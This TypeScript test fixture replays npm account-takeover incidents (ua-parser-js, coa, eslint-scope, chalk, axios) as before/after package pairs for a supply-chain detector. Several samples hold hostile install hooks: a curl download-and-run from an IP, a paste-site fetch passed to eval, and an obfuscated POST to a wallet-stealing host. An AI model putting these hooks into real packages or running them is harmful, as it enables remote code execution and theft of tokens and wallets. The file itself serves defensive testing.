// SPDX-License-Identifier: Apache-2.0
import type { Incident } from "../incident.ts";
import { obfuscated, plainPackage, source } from "./package.ts";

const day = 86_400;
const unix = (at: string): number => Date.parse(at) / 1000;

/** Somebody else published under the name of those who may: with a stolen password, session or token. */
export const takeovers: readonly Incident[] = [
  {
    id: "ua-parser-js-0.7.29",
    at: "2021-10-22T12:15Z",
    what: "account takeover: a script at install fetches and runs a miner; three lines within the hour",
    pair: {
      before: {
        version: "0.7.28",
        files: plainPackage("ua-parser-js", "0.7.28"),
        intended: true,
        time: unix("2021-10-22T12:15Z") - 195 * day,
      },
      after: {
        version: "0.7.29",
        files: {
          ...plainPackage("ua-parser-js", "0.7.29", { scripts: { preinstall: "start /B node preinstall.js & node preinstall.js" } }),
          "preinstall.js": `const { exec } = require("child_process");\nexec("preinstall.sh");\n`,
          "preinstall.sh": `curl http://203.0.113.41/download/x -o x\nchmod +x x\n./x\n`,
        },
        intended: false,
        withinHour: 3,
        time: unix("2021-10-22T12:15Z"),
      },
    },
    expected: "alert",
    stoppedBy: "publishing takes a quorum of signers and an approver; no window is open",
  },
  {
    id: "coa-2.0.3",
    at: "2021-11-04T13:00Z",
    what: "account takeover: a package that slept for three years gets six versions and a script at install (rc-1.2.9 alike)",
    pair: {
      before: { version: "2.0.2", files: plainPackage("coa", "2.0.2"), intended: true, time: unix("2021-11-04T13:00Z") - 1060 * day },
      after: {
        version: "2.0.3",
        files: {
          ...plainPackage("coa", "2.0.3", { scripts: { preinstall: "start /B node compile.js & node compile.js" } }),
          "compile.js": `${obfuscated("")}\nrequire("child_process").spawn("compile.bat");\n`,
        },
        intended: false,
        withinHour: 6,
        time: unix("2021-11-04T13:00Z"),
      },
    },
    expected: "alert",
    stoppedBy: "publishing takes a quorum of signers and an approver; no window is open",
  },
  {
    id: "eslint-scope-3.7.2",
    at: "2018-07-12T10:40Z",
    what: "account takeover: a script at install evaluates what a paste site serves, and sends registry tokens away",
    pair: {
      before: {
        version: "3.7.1",
        files: plainPackage("eslint-scope", "3.7.1"),
        intended: true,
        time: unix("2018-07-12T10:40Z") - 21 * day,
      },
      after: {
        version: "3.7.2",
        files: {
          ...plainPackage("eslint-scope", "3.7.2", { scripts: { postinstall: "node ./lib/build.js" } }),
          "lib/build.js": `const https = require("https");\nhttps.get("https://paste.evil.dev/raw/x", (r) => r.on("data", (c) => eval(String(c))));\n`,
        },
        intended: false,
        time: unix("2018-07-12T10:40Z"),
      },
    },
    expected: "alert",
    stoppedBy: "publishing takes a quorum of signers and an approver; no standing token can be stolen",
  },
  {
    id: "chalk-debug-2025",
    at: "2025-09-08T13:16Z",
    what: "account takeover by phishing: one obfuscated line in a file that was there, in some eighteen packages at once",
    pair: {
      before: { version: "5.6.0", files: plainPackage("chalk", "5.6.0"), intended: true, time: unix("2025-09-08T13:16Z") - 22 * day },
      after: {
        version: "5.6.1",
        files: {
          ...plainPackage("chalk", "5.6.1"),
          "index.js": `${source("chalk", 300)}\n${obfuscated(`const x=new XMLHttpRequest();x.open("POST","https://wallets.evil.dev/");`)}\n`,
        },
        intended: false,
        withinHour: 18,
        time: unix("2025-09-08T13:16Z"),
      },
    },
    expected: "alert",
    stoppedBy: "approvals are passkeys, which a look-alike site does not get; the policy accepts one origin",
  },
  {
    id: "axios-1.14.1",
    at: "2026-03-31T00:21Z",
    what: "token theft: a dependency that nothing asks for, hours old, published without the pipeline's provenance",
    pair: {
      before: {
        version: "1.14.0",
        files: plainPackage("axios", "1.14.0", { dependencies: { "form-data": "^4.0.0" } }),
        intended: true,
        origin: "attested",
        publisher: "maintainer@axios.example",
        time: unix("2026-03-31T00:21Z") - 20 * day,
      },
      after: {
        version: "1.14.1",
        files: plainPackage("axios", "1.14.1", { dependencies: { "form-data": "^4.0.0", "plain-crypto-js": "^4.2.1" } }),
        intended: false,
        origin: "none",
        publisher: "maintainer@mail.example",
        dependencyAges: { "plain-crypto-js": 18 },
        withinHour: 2,
        time: unix("2026-03-31T00:21Z"),
      },
    },
    expected: "alert",
    stoppedBy: "no release without provenance of a trusted builder: refused, not only seen",
  },
];
